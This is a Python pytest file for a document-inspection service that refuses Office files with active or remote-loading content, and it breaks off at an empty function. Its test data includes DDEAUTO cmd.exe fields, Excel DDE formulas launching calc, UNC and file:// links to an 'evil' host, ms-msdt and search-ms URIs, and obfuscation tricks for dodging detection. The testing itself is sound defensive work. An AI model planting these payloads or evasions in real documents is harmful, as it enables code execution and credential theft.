"""What is in a document decides whether it is taken: not the names of its parts, their encoding or their namespaces."""

import struct
from collections.abc import Callable, Iterable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from services.tasks.inspection import media_type_of
from shared.refusal import Refused
from tests.support.evidence import (
    BOF,
    DDE_CELL,
    DOC,
    HARMLESS,
    HOSTILE,
    MACRO_WORD,
    OFFICE,
    PACKAGE,
    RELATIONS,
    WORD,
    annotate,
    biff,
    changed_pdf,
    compound,
    docx,
    field,
    override,
    package,
    pptx,
    relationship,
    word_97,
    xlsx,
)

WORDS = f"{OFFICE}.wordprocessingml"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
DDE = field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")
LEADS = "liên kết tới chương trình hoặc máy khác"
AWAY = "https://example.org/a"


def answer(content: bytes, name: str = "a.docx") -> str:
    """The media type, or the code of the refusal with what it says."""
    try:
        return media_type_of(content, name)
    except Refused as refused:
        return f"{refused.code}: {refused.refusal.detail.format_map(refused.params)}"


def taken(content: bytes, name: str = "a.docx") -> bool:
    return "/" in answer(content, name).partition(":")[0]


def test_each_thing_is_named_once() -> None:
    """A document with macros declares that it has some, and holds them."""
    macros = docx(main=MACRO_WORD, types=override("word/a.bin", "application/vnd.ms-office.vbaProject"))
    assert answer(macros).startswith("evidence-active: Trong tệp có macro VBA. ")
    for content, _, _ in HOSTILE.values():
        said = answer(content).partition("Trong tệp có ")[2].partition(". ")[0].split(", ")
        assert not [(one, other) for one in said for other in said if one != other and one in other], said


def document(body: str, word: str = WORD) -> str:
    return f'<w:document xmlns:w="{word}"><w:body>{body}</w:body></w:document>'


def packed(
    name: str, declared: str, content: bytes | str, types: str = "", more: Iterable[tuple[str, str]] = ()
) -> bytes:
    """A document whose one part besides those of the package has this name, type and content."""
    return package(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">{override(name, declared)}{types}</Types>',
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
            f'<Relationship Id="r1" Type="{RELATIONS}/officeDocument" Target="{name}"/></Relationships>',
            name: content,
            **dict(more),
        }
    )


@pytest.mark.parametrize(
    ("name", "content", "expected"), [(name, *case) for name, case in HARMLESS.items()], ids=list(HARMLESS)
)
def test_ordinary_files_are_taken(name: str, content: bytes, expected: str) -> None:
    assert answer(content, name) == expected


@pytest.mark.parametrize(
    ("name", "content", "code", "words"), [(name, *case) for name, case in HOSTILE.items()], ids=list(HOSTILE)
)
def test_hostile_files_are_refused(name: str, content: bytes, code: str, words: str) -> None:
    said = answer(content, name)
    assert said.startswith(f"{code}: ") and words in said


# What a part is


@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-7", "cp037"]
)
@pytest.mark.parametrize("declared", [f"{WORDS}.header+xml", "application/xml", "image/png", ""])
def test_markup_in_another_encoding_is_refused_whatever_its_part_is_called(encoding: str, declared: str) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?>{document(DDE)}'.encode(encoding)
    types = override("word/header1.xml", declared) if declared else ""
    said = answer(docx(types=types, parts={"word/header1.xml": content}))
    assert said.startswith("evidence-broken") and "bảng mã khác UTF-8" in said


@pytest.mark.parametrize("encoding", ["iso-8859-1", "windows-1258", "us-ascii", "utf-7", "UTF-16", "x"])
def test_an_encoding_that_is_only_declared_is_refused(encoding: str) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?>{document("")}'.encode()
    assert "bảng mã" in answer(packed("word/document.xml", f"{WORDS}.document.main+xml", content))


@pytest.mark.parametrize(
    "head", ["", "\ufeff", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n', "\n " * 99]
)
def test_utf_8_is_taken_as_office_programs_write_it(head: str) -> None:
    content = (head + document("<w:p/>")).encode()
    assert taken(packed("word/document.xml", f"{WORDS}.document.main+xml", content))
    bad = (head + document(DDE)).encode()
    assert "DDE" in answer(packed("word/document.xml", f"{WORDS}.document.main+xml", bad))


@pytest.mark.parametrize(
    "name", ["doc/document.xml", "word/document.dat", "WORD/Document.XML", "a", "ảnh.png", "word\\x"]
)
@pytest.mark.parametrize("word", [WORD, STRICT, "urn:another"])
def test_a_main_part_of_any_name_is_looked_into(name: str, word: str) -> None:
    assert "DDE" in answer(packed(name, f"{WORDS}.document.main+xml", document(DDE, word)))


def test_the_type_of_a_part_is_found_whatever_the_case_of_its_name() -> None:
    types = override("WORD/Header1.DAT", f"{WORDS}.header+xml".upper())
    broken = docx(types=types, parts={"word/header1.dat": b"<w:hdr>"})
    assert answer(broken).startswith("evidence-broken")


@pytest.mark.parametrize("part", ["header1", "footer1", "footnotes", "endnotes", "comments", "glossary/document", "x"])
@pytest.mark.parametrize("declared", ["{}.xml+xml", "application/octet-stream", None])
def test_every_part_is_looked_into(part: str, declared: str | None) -> None:
    types = override(f"word/{part}.xml", declared) if declared else ""
    said = answer(docx(types=types, parts={f"word/{part}.xml": document(DDE).encode()}))
    assert "DDE" in said


@pytest.mark.parametrize(
    "part", ["word/document.xml", "word/a.dat", "_rels/.rels", "[Content_Types].xml", "customXml/i"]
)
def test_a_document_type_is_refused_everywhere(part: str) -> None:
    content = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    assert answer(docx(parts={part: content})).startswith("evidence-broken")


def test_bytes_that_only_begin_like_markup_are_no_markup() -> None:
    """The letters of a font are scrambled: one in 256 begins so."""
    font = override("word/fonts/a.odttf", f"{OFFICE}.obfuscatedFont")
    assert taken(docx(types=font, parts={"word/fonts/a.odttf": b"<\x01\x99\xff" + bytes(range(256))}))
    assert taken(docx(types=font, parts={"word/fonts/a.odttf": b"<a" + bytes(range(256))}))
    assert taken(docx(parts={"ppt/media/a.mp4": b"\0\0\0\x18ftypmp42" + bytes(99)}))


def test_drawings_of_excel_are_taken_though_they_are_half_html() -> None:
    drawing = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><div>a<br>b</div></v:textbox></xml>'
    types = f'<Default Extension="vml" ContentType="{OFFICE}.vmlDrawing"/>'
    assert taken(xlsx({"xl/drawings/vmlDrawing1.vml": drawing}, types))
    assert answer(xlsx({"xl/drawings/vmlDrawing1.vml": drawing[:-9]}, types)).startswith("evidence-broken")


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}, "evidence-disguised"),
        ({"META-INF/manifest.xml": b"<a/>"}, "evidence-disguised"),
        ({"WORD/document.xml": b"<a/>"}, "evidence-broken"),
        ({"word\\document.xml": b"<a/>"}, "evidence-broken"),
        ({"/word/document.xml": b"<a/>"}, "evidence-broken"),
        ({"word/a.xml": b"<a>" * 3000 + b"</a>" * 3000}, "evidence-broken"),
    ],
)
def test_a_package_that_programs_read_differently_is_refused(parts: dict[str, bytes], code: str) -> None:
    assert answer(docx(parts=parts)).startswith(code)


def test_a_package_is_one_kind() -> None:
    two = override("xl/workbook.xml", f"{OFFICE}.spreadsheetml.sheet.main+xml")
    assert answer(docx(types=two)).startswith("evidence-kind")


# Relationships

SENT_AWAY = [
    AWAY,
    " https://example.org/a",
    "\thttps://example.org/a",
    "HTTPS:a",
    "smb://10.0.0.1/a",
    "webdav://example.org/a",
    "ms-word:ofe|u|https://example.org/a",
    "/\\evil/a",
    "\\/evil/a",
    "//evil/a",
    "\\\\evil\\a",
    "%5C%5Cevil%5Ca",
    "%255C%255Cevil%255Ca",
    "/.//evil/a",
    "\\??\\UNC\\evil\\a",
    "\\\\?\\UNC\\evil\\a",
    "file://evil/a",
    "file:///\\\\evil\\a",
    "file:////evil/a",
    "file:\\\\evil\\a",
    "mhtml:https://example.org/a!x-usc:https://example.org/a",
    "ftp://example.org/a",
    "\u00a0https://example.org/a",
    "search-ms:query=a crumb=location:\\\\evil\\a",
]
KINDS = [
    "attachedTemplate",
    "frame",
    "subDocument",
    "image",
    "video",
    "audio",
    "externalLinkPath",
    "externalLinkLongPath",
    "xlPathMissing",
    "mailMergeSource",
    "mailMergeHeaderSource",
    "transform",
    "slideUpdateUrl",
    "recipientData",
    "font",
    "officeDocument",
    "",
    "unknown",
]


@pytest.mark.parametrize("target", SENT_AWAY)
@pytest.mark.parametrize("kind", KINDS)
def test_nothing_is_looked_for_on_another_machine(kind: str, target: str) -> None:
    assert "tự tải từ nơi khác" in answer(docx(related=[relationship(kind, target, external=True)]))


@pytest.mark.parametrize("mode", ["External", "external", " EXTERNAL ", "\tExternal\n", "Externally", "Internal", ""])
def test_how_a_mode_is_written_changes_nothing(mode: str) -> None:
    said = f'Type="{RELATIONS}/attachedTemplate" Target="{AWAY}" TargetMode="{mode}"'
    assert "tự tải" in answer(docx(related=[said]))


@pytest.mark.parametrize("namespace", ["http://purl.oclc.org/ooxml/package/2006/relationships", "urn:a", ""])
@pytest.mark.parametrize(
    "part", ["word/_rels/settings.xml.rels", "word/RELS", "customXml/item1.xml", "a.png", "_rels/a.bin"]
)
@pytest.mark.parametrize("base", [RELATIONS, "http://purl.oclc.org/ooxml/officeDocument/relationships"])
def test_a_relationship_is_one_whatever_its_namespace_and_its_part(namespace: str, part: str, base: str) -> None:
    content = (
        f'<p:Relationships xmlns:p="{namespace}"><p:Relationship Id="r1" Type="{base}/attachedTemplate" Target="{AWAY}"'
        ' TargetMode="External"/></p:Relationships>'
    )
    if not namespace:
        content = content.replace("p:", "").replace('xmlns:p=""', "").replace(' xmlns=""', "")
    assert "tự tải" in answer(docx(parts={part: content.replace("<Relationships :p", "<Relationships").encode()}))


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "file:///C:\\Users\\An\\M%E1%BA%ABu.dotx"),
        ("attachedTemplate", "file:///D:/Mẫu/Công văn.dotx"),
        ("externalLinkPath", "Phụ lục 1.xlsx"),
        ("externalLinkPath", "/Users/an/Ph%E1%BB%A5%20l%E1%BB%A5c.xlsx"),
        ("externalLinkPath", "file:///C:\\So%20lieu\\2024.xlsx"),
        ("xlPathMissing", "vnTools.xla"),
        ("image", "NULL"),
        ("image", "cid:image001.png@01D0A1B2.C3D4"),
        ("image", "file:///C:\\Users\\An\\Temp\\msohtmlclip1\\01\\clip_image001.png"),
    ],
)
def test_what_office_programs_write_of_the_own_drive_is_taken(kind: str, target: str) -> None:
    assert taken(docx(related=[relationship(kind, target, external=True)]))


LINKS = [
    AWAY,
    " http://thuvienphapluat.vn/van-ban?id=1&amp;b=2#dieu_3",
    "HTTP://A.VN",
    "http:\\\\www.a.vn",
    "mailto:ubnd@tiencanh.gov.vn?subject=a",
    "tel:0255123",
    "#_Toc1",
    "#'Phụ lục: 1'!A1",
    "",
    "www.a.vn",
    "../Hồ sơ/Quyết định 12.pdf",
    "Ho%20so/a.docx#Sheet1!A1",
    "file:///C:\\Ho%20so\\a.pdf",
    "about:blank",
    "javascript:void(0)",
    "javascript:;",
    "https:www.a.vn",
]
NO_LINKS = [
    *(target for target in SENT_AWAY if "http" not in target[:6].lower() and "\u00a0" not in target),
    "javascript:alert(1)",
    "vbscript:a",
    "ms-msdt:/id PCWDiagnostic",
    "data:text/html,a",
    "shell:startup",
    "cmd:a",
]


@pytest.mark.parametrize("target", LINKS)
def test_links_that_people_make_are_taken(target: str) -> None:
    assert taken(docx(related=[relationship("hyperlink", target, external=True)]))
    assert taken(docx(field(f'HYPERLINK "{target}" \\o "Xem: tại đây" \\t "_blank"')))


@pytest.mark.parametrize("target", NO_LINKS)
def test_a_link_to_a_program_or_another_machine_is_refused(target: str) -> None:
    assert "liên kết tới" in answer(docx(related=[relationship("hyperlink", target, external=True)]))
    instruction = target.replace("\\", "\\\\")
    for switches in ("", '\\o "Xem" ', "\\n \\l a "):
        assert "liên kết tới" in answer(docx(field(f'HYPERLINK {switches}"{instruction}"')))
        if " " not in target.strip() and "/" not in target[:1]:
            assert "liên kết tới" in answer(docx(field(f"hyperlink {switches}{instruction}")))


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("vbaProject", "VBA"),
        ("wordVbaData", "VBA"),
        ("activeXControlBinary", "ActiveX"),
        ("oleObject", "OLE"),
        ("aFChunk", "dạng khác"),
        ("xlMacrosheet", "XLM"),
        ("webextensiontaskpanes", "tiện ích web"),
        ("rdRichValueWebImage", "ảnh tự tải"),
        ("ui/extensibility", "customUI"),
    ],
)
def test_what_is_active_inside_is_refused(kind: str, words: str) -> None:
    assert words in answer(docx(related=[relationship(kind, "a")]))
    assert words in answer(docx(related=[relationship(kind.upper(), AWAY, external=True)]))


# Fields

BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{mark}"/></w:r>' for mark in ("begin", "separate", "end"))
CONTENTS, INSIDE = " TOC \\o &quot;1-3&quot; \\h ", " HYPERLINK \\l &quot;_Toc1&quot; "
ALTERNATIVES = "http://schemas.openxmlformats.org/markup-compatibility/2006"


def run(text: str, tag: str = "instrText") -> str:
    return f'<w:r><w:{tag} xml:space="preserve">{text}</w:{tag}></w:r>'


def inner(text: str) -> str:
    return BEGIN + run(text) + END


def alternatives(one: str, other: str) -> str:
    return (
        f'<mc:AlternateContent xmlns:mc="{ALTERNATIVES}"><mc:Choice Requires="x">{one}</mc:Choice>'
        f"<mc:Fallback>{other}</mc:Fallback></mc:AlternateContent>"
    )


STARTING = {
    "at once": field("DDE cmd"),
    "in small letters": field(" ddeauto cmd"),
    "in capitals and small letters": field("DdeAuto cmd"),
    "in pieces": field("D", "D", "E", "AUTO ", "cmd"),
    "in pieces of two paragraphs": f"<w:p>{BEGIN}{run('DDE')}</w:p><w:p>{run('AUTO cmd')}{END}</w:p>",
    "with a quote at once": field('DDE"cmd"'),
    "with a tab": field("\tDDE\tcmd"),
    "with references": field("&#68;&#x44;E cmd"),
    "in CDATA": field("<![CDATA[DD]]>E cmd"),
    "around a comment": field("DD<!-- a -->E cmd"),
    "with letters that nobody sees": field("D\u200bDE\u00adAUTO cmd"),
    "simple": '<w:p><w:fldSimple w:instr=" DDEAUTO cmd"/></w:p>',
    "simple, in another namespace": '<w:p><x:fldSimple xmlns:x="x" x:instr="DDE cmd"/></w:p>',
    "without marks": f"<w:p>{run('DDEAUTO cmd')}</w:p>",
    "without an end": f"<w:p>{BEGIN}{run('DDEAUTO cmd')}</w:p>",
    "as ordinary text": f"<w:p>{BEGIN}{run('DDEAUTO cmd', 't')}{END}</w:p>",
    "half as ordinary text": f"<w:p>{BEGIN}{run('DDE')}{run('AUTO cmd', 't')}{END}</w:p>",
    "deleted": f"<w:p><w:del>{BEGIN}{run('DDEAUTO cmd', 'delInstrText')}{END}</w:del></w:p>",
    "in another field": f"<w:p>{BEGIN}{run('IF 1 = 1 ')}{field('DDEAUTO cmd')}{END}</w:p>",
    "in the result of another field": f"<w:p>{BEGIN}{run('TOC')}{SEPARATE}{field('DDE cmd')}{END}</w:p>",
    "after the result": f"<w:p>{BEGIN}{SEPARATE}{run('DDEAUTO cmd')}{END}</w:p>",
}


@pytest.mark.parametrize("body", STARTING.values(), ids=list(STARTING))
def test_a_field_that_starts_a_program_is_refused(body: str) -> None:
    assert "DDE" in answer(docx(body))


BUILDING = {
    "by QUOTE": f"<w:p>{BEGIN}{inner('QUOTE 68 68 69')}{run(' cmd')}{END}</w:p>",
    "half by QUOTE": f"<w:p>{BEGIN}{run('L')}{inner('QUOTE 73 78 75')}{run(' cmd')}{END}</w:p>",
    "by a property": f"<w:p>{BEGIN}{run(' ')}{inner('DOCPROPERTY a')}{END}</w:p>",
    "by a simple field": f'<w:p>{BEGIN}<w:fldSimple w:instr="QUOTE 68"/>{run("PAGE")}{END}</w:p>',
    "by a control with data": f"<w:p>{BEGIN}<w:sdt><w:sdtContent>{run('PAGE')}</w:sdtContent></w:sdt>{END}</w:p>",
    "in a branch": f"<w:p>{BEGIN}{alternatives(run('PAGE '), '')}{run('LINK a')}{END}</w:p>",
    "in the other branch": f"<w:p>{BEGIN}{alternatives(run('PA'), run('LI'))}{run('NK a')}{END}</w:p>",
    "with a mark in a branch": f"<w:p>{BEGIN}{alternatives(SEPARATE, '')}{run('LINK a', 't')}{END}</w:p>",
    "with an end in a branch": f"<w:p>{BEGIN}{alternatives(END, '')}{run('LINK a', 't')}{END}</w:p>",
    "around what nobody knows": f'<w:p>{BEGIN}<x:a xmlns:x="x">{run("PAGE ")}</x:a>{run("LINK a")}{END}</w:p>',
    "in another namespace": f'<w:p>{BEGIN}<x:instrText xmlns:x="x">PAGE </x:instrText>{run("LINK a")}{END}</w:p>',
    "around what was deleted": f"<w:p>{BEGIN}<w:del>{run('PAGE ', 'delInstrText')}</w:del>{run('LINK a')}{END}</w:p>",
    "around what was moved": f"<w:p>{BEGIN}<w:moveFrom>{run('PAGE ')}</w:moveFrom>{run('LINK a')}{END}</w:p>",
}


@pytest.mark.parametrize("body", BUILDING.values(), ids=list(BUILDING))
def test_a_field_whose_instruction_is_put_together_elsewhere_is_refused(body: str) -> None:
    assert "trường có lệnh ghép" in answer(docx(body))


@pytest.mark.parametrize(
    "name", ["LINK", "INCLUDE", "INCLUDETEXT", "INCLUDEPICTURE", "IncludePicture", "IMPORT", "DATABASE", "RD"]
)
@pytest.mark.parametrize(
    "target",
    [
        '"\\\\\\\\evil\\\\a"',
        '"https://example.org/a"',
        "a",
        '\\t "\\\\\\\\evil" "C:\\\\a.png"',
        '"C:\\\\a.png" "\\\\\\\\evil"',
        '"cid:/\\\\evil"',
    ],
)
def test_a_field_that_fetches_is_refused(name: str, target: str) -> None:
    said = answer(docx(field(f" {name} ", target)))
    assert "tải nội dung từ nơi khác" in said and name.upper() in said


@pytest.mark.parametrize("sign", ["<w:tab/>", "<w:br/>", '<w:sym w:char="F020"/>', "</w:r></w:p><w:p><w:r>"])
def test_a_sign_between_pieces_hides_no_name(sign: str) -> None:
    for one, other in (("LINK", "a b"), ("LI", "NK a")):  # some programs pass over a sign
        assert "LINK" in answer(docx(f"<w:p>{BEGIN}{run(one)}<w:r>{sign}</w:r>{run(other)}{END}</w:p>"))


@pytest.mark.parametrize(
    "body",
    [
        field(" PAGE ") + field("NUMPAGES  \\* MERGEFORMAT"),
        f"<w:p>{BEGIN}{run('=')}{inner('PAGE')}{run('-1')}{END}</w:p>",
        f"<w:p>{BEGIN}{run(' IF ')}{inner('MERGEFIELD link')}{run(' = 1 &quot;a&quot;')}{SEPARATE}{END}</w:p>",
        f"<w:p>{BEGIN}{run(CONTENTS)}{SEPARATE}{field('PAGEREF _Toc1')}{run('DDE là gì', 't')}</w:p><w:p>{END}</w:p>",
        f"<w:p>{BEGIN}{run(INSIDE)}{SEPARATE}{run('LINK', 't')}{END}</w:p>",
        f"<w:p>{alternatives(field(' PAGE '), field(' PAGE '))}</w:p>",
        f"<w:p><w:del>{BEGIN}</w:del><w:del>{run('PAGE', 'delInstrText')}{END}</w:del></w:p>",
        f"<w:p><w:ins>{BEGIN}{run('DATE')}</w:ins>{run(' @ &quot;dd/MM/yyyy&quot;')}{END}</w:p>",
        field("INCLUDEPICTURE &quot;C:\\\\Temp\\\\clip_image001.png&quot; \\* MERGEFORMATINET"),
        field("INCLUDEPICTURE &quot;cid:image001.png@01D0&quot; \\d \\* MERGEFORMAT"),
        field("ADDIN ZOTERO_ITEM CSL_CITATION {&quot;link&quot;: &quot;x&quot;}"),
        field("MACROBUTTON NoMacro Bấm để nhập"),
        "<w:p><w:r><w:t>DDEAUTO c:\\\\cmd.exe là gì</w:t></w:r></w:p>",
        '<w:p><w:fldSimple w:instr=" SEQ Bảng \\* ARABIC "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    ],
)
def test_ordinary_fields_are_taken(body: str) -> None:
    assert answer(docx(body)) == f"{WORDS}.document"


# Formulas


def sheet(formula: str, tag: str = "f") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    part = f'<worksheet xmlns="{main}"><sheetData><row><c><{tag}>{formula}</{tag}></c></row></sheetData></worksheet>'
    return xlsx({"xl/worksheets/sheet9.xml": part.encode()})


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/C calc'!A0",
        "1+cmd|'/C calc'!A0",
        "SUM(1,cmd|'/C calc'!A0)",
        "'cmd'|'/C calc'!A0",
        "cmd | '/C calc' ! A0",
        "cmd|'/C echo ''a'''!A0",
        "Excel|Sheet1!R1C1",
        "cmd|'/C &quot;calc&quot;'!A0",
        "'a&quot;'!A1+cmd|'/C calc'!A0+'&quot;'!A1",
        "cm<!-- a -->d|'/C calc'!A0",
        "MSEXCEL|'\\..\\..\\cmd.exe'!'_xlbgnm.A1'",
    ],
)
@pytest.mark.parametrize("tag", ["f", "formula", "formula1", "definedName", "calculatedColumnFormula"])
def test_a_formula_that_starts_a_program_is_refused(formula: str, tag: str) -> None:
    assert "DDE" in answer(sheet(formula, tag))


@pytest.mark.parametrize(
    "formula",
    [
        "WEBSERVICE(&quot;https://a&quot;)",
        "_xlfn.WEBSERVICE(A1)",
        "1+_xlfn.IMAGE (A1)",
        "rtd(&quot;a&quot;,,1)",
        "DDE(1)",
    ],
)
def test_a_formula_that_fetches_is_refused(formula: str) -> None:
    assert "lấy dữ liệu" in answer(sheet(formula))


@pytest.mark.parametrize("target", ["\\\\evil\\a", "file://evil/a", "ms-word:a", "[\\\\evil\\a.xlsx]B!A1", "file:"])
def test_a_formula_that_leads_to_another_machine_is_refused(target: str) -> None:
    assert "liên kết tới" in answer(sheet(f'HYPERLINK("{target}","xem")'))
    assert "liên kết tới" in answer(f'a;"=hyperlink(""{target}"")"'.encode(), "a.csv")


@pytest.mark.parametrize(
    "formula",
    [
        'HYPERLINK("https://a.vn/?x=1","a")&amp;HYPERLINK("mailto:"&amp;A1)&amp;HYPERLINK(A1)',
        'HYPERLINK("[Phụ lục.xlsx]\'B: 1\'!A1","a")&amp;HYPERLINK("Hồ sơ\\1.pdf")',
        "SUM(A1:B2)",
        "IF(A1&lt;&gt;&quot;&quot;,&quot;a|b!c&quot;,'a|b'!A1)",
        "'[Khác.xlsx]Sheet 1'!$A$1",
        "HYPERLINK(&quot;#A1&quot;,&quot;xem&quot;)",
        "IFERROR(__xludf.DUMMYFUNCTION(&quot;IMAGE(A1)&quot;),1)",
        "SCALL(1)+MYIMAGE(2)+[1]!VND(A1)",
    ],
)
def test_ordinary_formulas_are_taken(formula: str) -> None:
    assert taken(sheet(formula))


# What is there by its element


@pytest.mark.parametrize(
    ("element", "words"),
    [
        ('<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>', "DDE"),
        ('<x:externalLink xmlns:x="x"><x:oleLink progId="a"/></x:externalLink>', "OLE"),
        ("<xm:macrosheet xmlns:xm='x'/>", "XLM"),
        ("<customUI onLoad='https://example.org/a.dotm!b'/>", "customUI"),
        ("<ocx classid='{1}'/>", "ActiveX"),
        ("<webextension/>", "tiện ích web"),
        ("<connections><connection id='1' refreshOnLoad='1'/></connections>", "tự lấy dữ liệu"),
        ("<connections><connection id='1' interval='5'/></connections>", "tự lấy dữ liệu"),
        ("<queryTable refreshOnLoad='true'/>", "tự lấy dữ liệu"),
        ("<Properties><property name='_AssemblyLocation'/></Properties>", "VSTO"),
        ("<Properties><HyperlinkBase>\\\\evil\\a</HyperlinkBase></Properties>", "liên kết tới"),
        ("<a><hlinkClick action='ppaction://program'/></a>", "chạy chương trình"),
        ("<a><hlinkClick action='ppaction://macro?name=a'/></a>", "chạy chương trình"),
        ("<a><hlinkMouseOver action='ppaction://program'/></a>", "chạy chương trình"),
        ("<a><hlinkHover r:id='r1' xmlns:r='r'/></a>", "chạy chương trình"),
        ("<v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' src='https://example.org/a'/>", "tự tải"),
        ("<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='\\\\evil\\a'/>", "liên kết tới"),
        ("<svg xmlns='http://www.w3.org/2000/svg'><image href='https://example.org/a'/></svg>", "tự tải"),
        ("<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "JavaScript"),
        ("<settings><mailMerge><connectString val='a'/></mailMerge></settings>", "trộn thư"),
    ],
)
def test_what_acts_is_refused_in_every_kind_of_document(element: str, words: str) -> None:
    for made, name in ((docx, "word/a.xml"), (pptx, "ppt/a.dat")):
        assert words in answer(made(parts={name: element.encode()}))
    assert words in answer(xlsx({"xl/a.xml": element.encode()}))


@pytest.mark.parametrize(
    "element",
    [
        "<connections><connection id='1' refreshOnLoad='0' interval='0'/></connections>",
        "<pivotCacheDefinition refreshOnLoad='1'/>",
        "<Properties><property name='Phòng'/><HyperlinkBase>https://a.vn</HyperlinkBase></Properties>",
        "<a><hlinkClick action='ppaction://hlinksldjump'/><hlinkMouseOver action='ppaction://noaction'/></a>",
        "<a><hlinkClick r:id='r1' xmlns:r='r'/></a>",
        "<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='https://a.vn'><v:imagedata/></v:shape>",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='data:image/png;base64,AA'/><use href='#a'/></svg>",
        "<m:f xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'>a|b!c</m:f>",
    ],
)
def test_what_ordinary_documents_hold_is_taken(element: str) -> None:
    assert taken(docx(parts={"word/a.xml": element.encode()}))


def test_a_presentation_is_taken() -> None:
    assert answer(pptx()) == f"{OFFICE}.presentationml.presentation"


# Documents of before 2007


@pytest.mark.parametrize("wide", [False, True])
@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("\x13 DDEAUTO cmd \x14\x15", "DDE"),
        ("\x13DD\x13QUOTE 69\x14E\x15 cmd\x15", "ghép"),
        ('\x13 INCLUDEPICTURE "\\\\\\\\evil\\\\a" \x14\x15', "INCLUDEPICTURE"),
        ("\x13\tLINK Excel.Sheet.8 a\x15", "LINK"),
        ('\x13 HYPERLINK "\\\\\\\\evil\\\\a" \x01\x14a\x15', "liên kết tới"),
        ('\x13 HYPERLINK "https://a.vn" \x01\x14a\x15 \x13PAGE\x141\x15', ""),
        ('\x13 HYPERLINK \\l "a" \x01\x14a\x15', ""),
    ],
)
def test_fields_of_word_97_are_read_piece_by_piece(text: str, words: str, wide: bool) -> None:
    for pieces in ([text], [text[:4], text[4:]], list(text)):
        said = answer(word_97(pieces, wide=wide), "a.doc")
        assert words in said if words else said == "application/msword"


@pytest.mark.parametrize(
    ("template", "is_taken"),
    [
        ("", True),
        ("C:\\Mẫu\\a.dot", True),
        ("Normal.dot", True),
        *((target, False) for target in ("\\\\evil\\a.dot", "https://example.org/a.dot", " //evil/a.dot")),
    ],
)
def test_the_template_of_a_document_of_word_97(template: str, is_taken: bool) -> None:
    assert taken(word_97(["Báo cáo"], template=template), "a.doc") is is_taken


def test_a_document_of_word_95_is_not_taken() -> None:
    old = struct.pack("<HHHHHH", 0xA5DC, 0x0065, 0, 0, 0, 0)
    assert answer(compound(("WordDocument", old)), "a.doc").startswith("evidence-broken")
    assert taken(DOC, "a.doc")


def book(path: str, wide: bool = False) -> bytes:
    letters = path.encode("utf-16-le") if wide else path.encode("latin-1")
    data = struct.pack("<HHB", 1, len(path), wide) + letters
    half = len(data) - 3
    records = biff(BOF, (0x01AE, data[:half]), (0x003C, data[half:]))
    return compound(("Workbook", records))


@pytest.mark.parametrize("wide", [False, True])
@pytest.mark.parametrize(
    ("path", "words"),
    [
        ("cmd\x03/C calc", "DDE"),
        ("\x01\x01@evil\x03a.xls", "tự tải"),
        ("\x01\x05\x0dhttps://a.b/c", "tự tải"),
        ("\\\\evil\\a.xls", "tự tải"),
        ("\x01\x01Cthu muc\x03a.xls", ""),
        ("\x01\x02a.xls", ""),
        ("\x01\x04\x04a.xls", ""),
        ("\x00", ""),
        (" ", ""),
    ],
)
def test_other_books_of_excel_97(path: str, words: str, wide: bool) -> None:
    said = answer(book(path, wide), "a.xls")
    assert words in said if words else said == "application/vnd.ms-excel"


def test_a_call_of_a_program_in_excel_95() -> None:
    old = (0x0809, struct.pack("<HH", 0x0500, 0x0005))
    called = b"cmd\x03/C calc"
    assert "DDE" in answer(compound(("Book", biff(old, (0x0017, bytes([len(called)]) + called)))), "a.xls")
    assert taken(compound(("Book", biff(old, (0x0017, b"\x06\x03Sheet1")))), "a.xls")


def test_a_formula_of_excel_97_that_fetches() -> None:
    name = (0x0018, b"\0" * 14 + b"\0_xlfn.WEBSERVICE\x1c\x1d")
    assert "lấy dữ liệu" in answer(compound(("Workbook", biff(BOF, name))), "a.xls")


def wide(text: str) -> bytes:
    return f"{text}\0".encode("utf-16-le")


def link(flags: int, *pieces: bytes) -> bytes:
    return compound(("Workbook", biff(BOF, (0x01B8, bytes(24) + struct.pack("<II", 2, flags) + b"".join(pieces)))))


def address(target: str) -> bytes:
    return bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<I", len(wide(target))) + wide(target)


def path(short: bytes, long: str) -> bytes:
    known = bytes.fromhex("0303000000000000c000000000000046") + struct.pack("<HI", 0, len(short) + 1) + short + b"\0"
    text = long.encode("utf-16-le")
    return known + bytes(24) + (struct.pack("<IIH", len(text) + 6, len(text), 3) + text if long else bytes(4))


@pytest.mark.parametrize(
    ("target", "is_taken"),
    [("https://a.vn", True), ("mailto:a@b.vn", True), ("file://evil/a", False), ("ms-excel:ofe|u|https://a", False)],
)
def test_links_of_excel_97(target: str, is_taken: bool) -> None:
    name = struct.pack("<I", 4) + wide("xem")
    assert taken(link(0x03, address(target)), "a.xls") is is_taken
    assert taken(link(0x13, name, address(target)), "a.xls") is is_taken
    assert taken(link(0x93, name, name, address(target)), "a.xls") is is_taken
    assert taken(link(0x103, struct.pack("<I", len(target) + 1) + wide(target)), "a.xls") is is_taken


def test_links_of_excel_97_to_files() -> None:
